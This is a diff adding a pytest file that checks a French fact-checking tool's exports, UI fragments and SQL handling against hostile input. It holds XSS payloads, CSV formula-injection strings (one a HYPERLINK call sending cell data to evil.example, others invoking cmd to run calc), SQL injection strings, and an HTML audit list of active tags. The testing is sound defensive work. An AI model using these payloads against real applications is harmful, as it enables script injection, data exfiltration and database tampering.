@@ -1,0 +1,269 @@
+"""Hostile text is inert everywhere it can land: an article, corpus passages, notes and
+reviewer names carrying `<script>`, `<img onerror>`, `javascript:` Markdown links and
+spreadsheet formulas come out of every export and UI fragment as plain text, and
+come out whole (nothing dropped); SQL only ever receives them as parameters.
+
+`fill_hostile` builds the hostile review through the library (the real extractor),
+so the browser test (tests/e2e/test_injection_browser.py) shows the same data.
+"""
+from __future__ import annotations
+
+import ast
+import csv
+import hashlib
+import io
+import json
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from markdown_it import MarkdownIt
+
+from checker.corpus import make_passage
+from checker.errors import NotFoundError
+from checker.match import fts_query
+from checker.renderers import RENDERERS
+from checker.report import build_report
+from checker.settings import PACKAGE_ROOT
+from checker.store import Store
+from checker.ui_highlight import evidence_html, highlight_article, quote_html
+from claims import extract
+
+from tests.test_bad_input import ClaimRecord
+
+PAYLOADS = (
+    '<script>window.__pwned="script"</script>',
+    "<img src=x onerror=\"window.__pwned='img'\">",
+    "<svg onload=\"window.__pwned='svg'\"></svg>",
+    '[cliquez ici](javascript:window.__pwned="md")',
+    "<a href=\"javascript:window.__pwned='a'\">lien</a>",
+    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+    "![photo](x\" onerror=\"window.__pwned='mdimg')",
+    '"><script>window.__pwned="attr"</script>',
+    '</script><script>window.__pwned="ld"</script>',
+    "<style>body{display:none}</style>",
+    '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_URL = "javascript:window.__pwned='url'"
+TITLE = 'Budget <script>window.__pwned="title"</script> de la ville'
+ARTICLE = TITLE + "\n\n" + "\n".join(
+    f"La mairie de Lyon a dépensé {i + 2} millions d'euros en 2023 pour {p}." for i, p in enumerate(PAYLOADS)
+) + "\n"
+NOTE = "Faux. " + " ".join(PAYLOADS)
+REVIEWER = '<img src=x onerror="window.__pwned=\'reviewer\'">=cmd|calc'
+
+
+def fill_hostile(store: Store) -> dict:
+    """An article, claims, passages, matches and verdicts that are all payloads.
+
+    Returns {"article": id, "claims": [ids], "judged": id of the claim with the hostile
+    note and reviewer}.
+    """
+    document = extract(ARTICLE, lang="fr")
+    extra = [
+        ClaimRecord(f"hostile-{i}", f"La mairie affirme {p}", start=ARTICLE.index(p), end=ARTICLE.index(p) + len(p),
+                    sentence=p, reasons=[p], features={"entities": [{"text": p, "label": "ORG"}]})
+        for i, p in enumerate(PAYLOADS)
+    ]
+    claims = [*document.claims, *extra]
+    article_id = store.save_article(
+        text=ARTICLE, title=document.title, lang="fr", sha256=hashlib.sha256(ARTICLE.encode()).hexdigest(),
+        claims=claims, source=PAYLOADS[3] + ".txt", url=HOSTILE_URL,
+    )
+    store.upsert_passages("hostile", [
+        make_passage(id=f"h{i}", text=f"Selon la préfecture, {p} coûte {i} euros.", title=p, source=p,
+                     url=HOSTILE_URL if i % 2 else "https://example.org/?q=<script>", date=p)
+        for i, p in enumerate(PAYLOADS)
+    ])
+    pks = {r["id"]: r["pk"] for r in store.db.query("SELECT id, pk FROM passages WHERE corpus = 'hostile'")}
+    for n, claim in enumerate(claims):
+        store.save_check(
+            claim.id, model="test-model", corpora=["hostile"], suggestion="related", signals=list(PAYLOADS[:3]),
+            matches=[{"pk": pks[f"h{(n + k) % len(PAYLOADS)}"], "score": 0.9 - k / 10, "dense": 0.8, "lexical": 1.0,
+                      "signals": [PAYLOADS[(n + k) % len(PAYLOADS)]]} for k in range(3)],
+        )
+    judged = claims[0].id
+    store.record_verdict(judged, "false", note=NOTE, evidence=[f"h{(0 + k) % len(PAYLOADS)}" for k in range(2)],
+                         reviewer=REVIEWER)
+    for claim in extra[:4]:
+        store.record_verdict(claim.id, "unclear", note=claim.text, reviewer=PAYLOADS[0])
+    return {"article": article_id, "claims": [c.id for c in claims], "judged": judged}
+
+
+class Audit(HTMLParser):
+    """Every way HTML can run code or load something: script-like elements, event
+    handler attributes, and URL attributes that are not plain http(s) links."""
+
+    ACTIVE_TAGS = {"script", "iframe", "img", "svg", "object", "embed", "form", "input", "base", "frame", "math",
+                   "video", "audio", "link"}
+    URL_ATTRS = {"href", "src", "action", "formaction", "srcdoc", "xlink:href", "data", "poster", "background"}
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.problems: list[str] = []
+        self.styles = 0
+
+    def handle_starttag(self, tag, attrs):
+        if tag in self.ACTIVE_TAGS:
+            self.problems.append(f"<{tag}>")
+        if tag == "style":
+            self.styles += 1
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.problems.append(f"<{tag} {name}=…>")
+            if name in self.URL_ATTRS and value and not value.strip().lower().startswith(("http://", "https://", "#")):
+                self.problems.append(f"<{tag} {name}={value!r}>")
+
+    handle_startendtag = handle_starttag
+
+
+def audit(markup: str) -> Audit:
+    a = Audit()
+    a.feed(markup)
+    a.close()
+    return a
+
+
+def strings_in(value) -> list[str]:
+    if isinstance(value, str):
+        return [value]
+    if isinstance(value, dict):
+        return [s for v in value.values() for s in strings_in(v)]
+    if isinstance(value, list):
+        return [s for v in value for s in strings_in(v)]
+    return []
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    store = Store(tmp_path_factory.mktemp("hostile") / "desk.db")
+    ids = fill_hostile(store)
+    yield store, ids
+    store.close()
+
+
+@pytest.fixture(scope="module")
+def exports(hostile):
+    store, ids = hostile
+    report = build_report(store, ids["article"], generated_at="2024-10-10T10:00:00+00:00")
+    return {name: render(report) for name, render in RENDERERS.items()}
+
+
+def test_the_hostile_review_is_complete(hostile):
+    store, ids = hostile
+    assert store.article(ids["article"])["text"] == ARTICLE
+    assert len(ids["claims"]) > len(PAYLOADS)
+    current = store.current_verdict(ids["judged"])
+    assert current["note"] == NOTE and current["reviewer"] == REVIEWER  # stored as typed
+
+
+def test_html_export_is_inert(exports):
+    a = audit(exports["html"])
+    assert a.problems == []
+    assert a.styles == 1  # the report's own stylesheet only
+    assert "&lt;script&gt;window.__pwned" in exports["html"]
+
+
+def test_markdown_export_is_inert_even_where_raw_html_is_allowed(exports):
+    """Rendered as a permissive viewer would: raw HTML on, link checks off."""
+    md = MarkdownIt("commonmark", {"html": True})
+    md.validateLink = lambda url: True
+    rendered = md.render(exports["markdown"])
+    a = audit(rendered)
+    assert a.problems == [] and a.styles == 0
+    assert "window.__pwned" in rendered  # shown as text, not dropped
+
+
+def test_csv_export_has_no_live_formula(exports):
+    rows = list(csv.reader(io.StringIO(exports["csv"].lstrip("\ufeff"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert cells
+    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
+    defused = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]
+    assert len(defused) >= 3  # the formula payloads are there, made text
+
+
+def test_json_export_keeps_every_payload_exactly(exports):
+    document = json.loads(exports["json"])
+    strings = "\n".join(strings_in(document))
+    for p in PAYLOADS:
+        assert p in strings, p
+    article = document["articles"][0]
+    judged = next(c for c in article["claims"] if c["verdict"] and c["verdict"]["reviewer"] == REVIEWER)
+    assert judged["verdict"]["note"] == NOTE
+
+
+def test_claimreview_is_valid_json_with_the_reviews(exports):
+    reviews = json.loads(exports["claimreview"])
+    assert len(reviews) == 1 + 4
+    assert all(r["@type"] == "ClaimReview" for r in reviews)
+
+
+@pytest.mark.xfail(strict=True, reason="renderers.to_claimreview writes '<' as is: a claim holding '</script>' "
+                   "ends the <script type=application/ld+json> block a site embeds the JSON-LD in")
+def test_claimreview_can_be_embedded_in_a_script_block(exports):
+    assert "</" not in exports["claimreview"] and "<!--" not in exports["claimreview"]
+
+
+def test_ui_fragments_are_inert(hostile):
+    store, ids = hostile
+    claims = store.claims(ids["article"])
+    spans = [{"id": c["id"], "start": c["start"], "end": c["end"], "number": i, "status": "false"}
+             for i, c in enumerate(claims, start=1)]
+    page = highlight_article(ARTICLE, spans, selected=ids["judged"])
+    fragments = [page]
+    for c in claims:
+        fragments += [quote_html("Affirmation", c["text"]), quote_html("Phrase", c["sentence"])]
+        fragments += [evidence_html(m) for m in store.matches(c["id"])]
+    fragments.append(quote_html("Note", store.current_verdict(ids["judged"])["note"]))
+    for fragment in fragments:
+        assert audit(fragment).problems == [], fragment
+        assert audit(fragment).styles == 0
+    assert "&lt;script&gt;window.__pwned=&quot;script&quot;&lt;/script&gt;" in page
+
+
+def test_hostile_ids_and_names_are_only_parameters(hostile):
+    store, ids = hostile
+    tables = set(store.db.table_names())
+    for nasty in ("x' OR '1'='1", "x'); DROP TABLE verdicts; --", 'x" OR 1=1 --', "%", "*"):
+        with pytest.raises(NotFoundError):
+            store.record_verdict(nasty, "true")
+        with pytest.raises(NotFoundError):
+            store.article(nasty)
+        assert store.passages([nasty]) == []
+        assert store.verdict_history(nasty) == []
+        # a search is free text: FTS5 syntax in it is never run as syntax
+        assert isinstance(store.lexical_search(fts_query(nasty), ["hostile"]), list)
+    for query in ('"unterminated', "a AND OR NOT (", "NEAR(a b, -1)", "text:*", "^préfecture", PAYLOADS[0]):
+        assert isinstance(store.lexical_search(fts_query(query), ["hostile"]), list)
+    assert set(store.db.table_names()) == tables
+    assert store.db["verdicts"].count == 5
+
+
+ALLOWED_SQL_INTERPOLATIONS = {"marks", "','.join('?' * len(keep))", "','.join('?' * len(corpora))",
+                              "int(self.timeout * 1000)"}
+
+
+def test_sql_is_built_only_with_parameters():
+    """Every f-string handed to execute/query interpolates only '?' placeholders (or a
+    number the code computed), never a value."""
+    found = []
+    for path in [*(PACKAGE_ROOT / "checker").glob("*.py"), *(PACKAGE_ROOT / "claims").glob("*.py"), PACKAGE_ROOT / "app.py"]:
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
+                    and node.func.attr in {"execute", "executemany", "executescript", "query"} and node.args):
+                continue
+            sql = node.args[0]
+            if isinstance(sql, ast.JoinedStr):
+                for part in sql.values:
+                    if isinstance(part, ast.FormattedValue):
+                        found.append((path.name, ast.unparse(part.value)))
+            elif not isinstance(sql, (ast.Constant, ast.Name, ast.BinOp)):
+                found.append((path.name, ast.unparse(sql)))
+    assert found, "the scan found no SQL at all"
+    assert [f for f in found if f[1] not in ALLOWED_SQL_INTERPOLATIONS] == []
